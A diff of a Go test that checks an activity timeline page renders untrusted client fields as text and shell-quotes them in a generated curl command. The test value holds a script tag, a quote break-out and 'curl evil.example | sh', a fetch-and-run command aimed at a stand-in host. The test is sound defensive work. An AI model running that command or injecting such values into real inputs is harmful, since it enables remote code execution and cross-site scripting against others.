@@ -151,13 +151,14 @@ func TestTimelineShowsStrangersAsText(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	evil := `<script>alert(1)</script>"'; curl evil.example | sh #`
-	w.step(t, tenants.Activity{At: time.Now(), AttemptID: secret.NewID(), Step: tenants.StepToken, Outcome: tenants.OutcomeRefused, ClientID: evil, ClientName: evil, Agent: evil,
+	attempt := secret.NewID()
+	w.step(t, tenants.Activity{At: time.Now(), AttemptID: attempt, Step: tenants.StepToken, Outcome: tenants.OutcomeRefused, ClientID: evil, ClientName: evil, Agent: evil,
 		Code: "invalid_grant", Parameter: "code", Got: evil, Expected: "a code", Advice: "Try again."})
 	page := w.as(t, "viewer").get(t, w.of(t, "/activity")).want(t, http.StatusOK)
 	if page.doc.Find("main script").Length() != 0 || !strings.Contains(page.doc.Find("main").Text(), "<script>alert(1)") {
 		t.Error("markup of a stranger")
 	}
-	curl := page.doc.Find(`[data-testid="curl"]`).First().Text()
+	curl := w.as(t, "viewer").get(t, w.of(t, "/activity/"+attempt.String())).want(t, http.StatusOK).doc.Find(`[data-testid="curl"]`).First().Text()
 	if !strings.Contains(curl, `-A '<script>alert(1)</script>"'\''; curl evil.example | sh #'`) {
 		t.Errorf("not quoted: %s", curl)
 	}
